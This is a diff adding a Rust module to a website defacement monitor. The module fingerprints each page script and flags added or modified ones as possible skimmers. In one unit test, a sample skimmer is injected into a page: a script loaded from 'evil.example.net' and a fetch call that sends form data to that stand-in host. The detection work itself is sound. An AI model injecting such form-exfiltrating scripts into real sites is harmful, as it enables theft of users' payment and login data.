@@ -0,0 +1,257 @@
+use std::collections::{BTreeMap, BTreeSet};
+use log::{error, warn};
+use regex::Regex;
+use scraper::{Html, Selector};
+use toml::Value;
+use crate::comparators::{Comparator, CompareResult};
+use crate::databases::TrackedPage;
+
+/*
+This mod keeps an inventory of the scripts of the page.
+Skimmers and crypto miners are injected as new scripts (or appended to existing ones)
+while the visible page stays exactly the same, so the text based comparators can't see them
+on dynamic pages. Every script is fingerprinted and any added or modified script is reported.
+ */
+
+//New scripts are rarely legitimate on a page that is monitored, but inline scripts
+//Are modified by legitimate deployments more often
+const ADDED_SCRIPT_CONFIDENCE: f64 = 0.9;
+const MODIFIED_SCRIPT_CONFIDENCE: f64 = 0.6;
+
+///The scripts that were added or modified, identified by their keys
+#[derive(Debug, Clone, PartialEq, Default)]
+pub struct ScriptChanges {
+    added: Vec<String>,
+    modified: Vec<String>,
+}
+
+pub struct ScriptComparator {
+    //Removed from the scripts before fingerprinting them (nonces, timestamps...)
+    volatile_patterns: Vec<Regex>,
+}
+
+impl ScriptChanges {
+    pub fn added(&self) -> &Vec<String> {
+        &self.added
+    }
+    pub fn modified(&self) -> &Vec<String> {
+        &self.modified
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.added.is_empty() && self.modified.is_empty()
+    }
+}
+
+fn hash(content: &str) -> String {
+    let mut digestor = sha1::Sha1::new();
+
+    digestor.update(content.as_bytes());
+
+    digestor.digest().to_string()
+}
+
+impl ScriptComparator {
+    pub fn new(config_file: &str) -> Self {
+        let value = config_file.parse::<Value>().unwrap();
+
+        let mut volatile_patterns = Vec::new();
+
+        if let Some(patterns) = value.get("volatile_patterns").and_then(|patterns| patterns.as_array()) {
+            for pattern in patterns.iter().filter_map(|pattern| pattern.as_str()) {
+                match Regex::new(pattern) {
+                    Ok(regex) => { volatile_patterns.push(regex); }
+                    Err(e) => {
+                        error!("Ignoring invalid volatile script pattern {}. {}", pattern, e);
+                    }
+                }
+            }
+        }
+
+        Self { volatile_patterns }
+    }
+
+    fn normalise(&self, script: &str) -> String {
+        let mut script = String::from(script);
+
+        for pattern in &self.volatile_patterns {
+            script = pattern.replace_all(script.as_str(), "").into_owned();
+        }
+
+        script.split_whitespace().collect::<Vec<&str>>().join(" ")
+    }
+
+    ///
+    /// Fingerprint every script of the dom.
+    /// External scripts are keyed by their URL (without the query) and hashed with the full URL,
+    /// Inline scripts are keyed by their position among the inline scripts and hashed with their body
+    pub fn fingerprint_scripts(&self, dom: &str) -> BTreeMap<String, String> {
+        let document = Html::parse_document(dom);
+
+        let selector = Selector::parse("script").unwrap();
+
+        let mut fingerprints = BTreeMap::new();
+
+        let mut inline_count = 0;
+
+        for script in document.select(&selector) {
+            match script.value().attr("src") {
+                Some(src) => {
+                    let src = src.trim();
+
+                    let location = src.split(['?', '#']).next().unwrap_or(src);
+
+                    fingerprints.insert(format!("src:{}", location), hash(self.normalise(src).as_str()));
+                }
+                None => {
+                    let body = self.normalise(script.text().collect::<String>().as_str());
+
+                    if body.is_empty() {
+                        continue;
+                    }
+
+                    fingerprints.insert(format!("inline:{}", inline_count), hash(body.as_str()));
+
+                    inline_count += 1;
+                }
+            }
+        }
+
+        fingerprints
+    }
+
+    ///
+    /// Get the scripts that were added or modified in the current dom, ignoring the volatile scripts
+    pub fn compare_scripts(&self, stored_dom: &str, current_dom: &str, volatile: &BTreeSet<String>) -> ScriptChanges {
+        let stored = self.fingerprint_scripts(stored_dom);
+
+        let mut changes = ScriptChanges::default();
+
+        for (key, fingerprint) in self.fingerprint_scripts(current_dom) {
+            if volatile.contains(&key) {
+                continue;
+            }
+
+            match stored.get(&key) {
+                Some(stored_fingerprint) if *stored_fingerprint != fingerprint => { changes.modified.push(key); }
+                Some(_) => {}
+                None => { changes.added.push(key); }
+            }
+        }
+
+        changes
+    }
+
+    fn changes_for(&self, page: &TrackedPage, dom_1: &str, dom_2: &str) -> ScriptChanges {
+        let volatile: BTreeSet<String> = page.comparator_data(self.name())
+            .and_then(|volatile| serde_json::from_str(volatile).ok())
+            .unwrap_or_default();
+
+        self.compare_scripts(dom_1, dom_2, &volatile)
+    }
+}
+
+impl Comparator<String> for ScriptComparator {
+    fn name(&self) -> &str {
+        "Script"
+    }
+
+    fn compare_between(&self, page: &TrackedPage, dom_1: &String, dom_2: &String) -> CompareResult {
+        let changes = self.changes_for(page, dom_1, dom_2);
+
+        if changes.is_empty() {
+            //The scripts are the same, but that says nothing about the rest of the page
+            return CompareResult::maybe_defaced("The scripts of the page did not change").with_score(0.0);
+        }
+
+        warn!("Page {} with ID {} has added scripts {:?} and modified scripts {:?}", page.page_url(),
+            page.page_id(), changes.added(), changes.modified());
+
+        let confidence = if changes.added().is_empty() {
+            MODIFIED_SCRIPT_CONFIDENCE
+        } else {
+            ADDED_SCRIPT_CONFIDENCE
+        };
+
+        CompareResult::defaced(confidence, format!("Added scripts: [{}], modified scripts: [{}]",
+                                                   changes.added().join(", "), changes.modified().join(", ")))
+            .with_score((changes.added().len() + changes.modified().len()) as f64)
+    }
+
+    ///The scripts that are not the same in every sample rotate legitimately, so we store them as volatile
+    fn learn_from_samples(&self, _page: &TrackedPage, samples: &[String]) -> Option<String> {
+        let fingerprints: Vec<BTreeMap<String, String>> = samples.iter()
+            .map(|sample| self.fingerprint_scripts(sample))
+            .collect();
+
+        let first = fingerprints.first()?;
+
+        let mut volatile = BTreeSet::new();
+
+        for sample in &fingerprints {
+            for (key, fingerprint) in sample.iter().chain(first.iter()) {
+                if fingerprints.iter().any(|other| other.get(key) != Some(fingerprint)) {
+                    volatile.insert(key.clone());
+                }
+            }
+        }
+
+        Some(serde_json::to_string(&volatile).unwrap())
+    }
+}
+
+#[cfg(test)]
+mod script_comparator_tests {
+    use std::collections::BTreeSet;
+    use crate::comparators::Comparator;
+    use crate::comparators::baseline::{BaselineModel, ThresholdPolicy};
+    use crate::comparators::script_comparator::ScriptComparator;
+    use crate::databases::{TrackedPage, TrackedPageType};
+
+    const PAGE: &str = "<html><head><script src=\"/js/app.js?v=1650000000\"></script>\
+    <script nonce=\"abc\">window.csrf_token = \"a1b2c3\"; init(1650000000123);</script></head>\
+    <body><p>Shop</p><script>track('home');</script></body></html>";
+
+    fn comparator() -> ScriptComparator {
+        ScriptComparator::new(include_str!("../../resources/scripts.toml"))
+    }
+
+    #[test]
+    fn test_volatile_values_are_ignored() {
+        let comparator = comparator();
+
+        let reloaded = PAGE.replace("v=1650000000", "v=1650000999")
+            .replace("a1b2c3", "ffeedd")
+            .replace("1650000000123", "1650000999999")
+            .replace("nonce=\"abc\"", "nonce=\"xyz\"");
+
+        assert!(comparator.compare_scripts(PAGE, reloaded.as_str(), &BTreeSet::new()).is_empty());
+    }
+
+    #[test]
+    fn test_injected_scripts() {
+        let comparator = comparator();
+
+        let skimmer = PAGE.replace("</body>", "<script src=\"https://evil.example.net/skim.js\"></script></body>")
+            .replace("track('home');", "track('home'); fetch('https://evil.example.net/?c=' + document.forms[0]);");
+
+        let changes = comparator.compare_scripts(PAGE, skimmer.as_str(), &BTreeSet::new());
+
+        assert_eq!(changes.added(), &vec![String::from("src:https://evil.example.net/skim.js")]);
+        assert_eq!(changes.modified(), &vec![String::from("inline:1")]);
+    }
+
+    #[test]
+    fn test_learn_rotating_scripts() {
+        let comparator = comparator();
+
+        let page = TrackedPage::new(1, String::from("https://example.com"), 1, 0, 0, 0, 0, 5, false,
+                                    TrackedPageType::Dynamic(BaselineModel::unlearned(ThresholdPolicy::Fixed(10.0))));
+
+        let samples = vec![PAGE.replace("'home'", "'ad-1'"), PAGE.replace("'home'", "'ad-2'")];
+
+        let learned = comparator.learn_from_samples(&page, &samples).unwrap();
+
+        assert_eq!(learned, "[\"inline:1\"]");
+    }
+}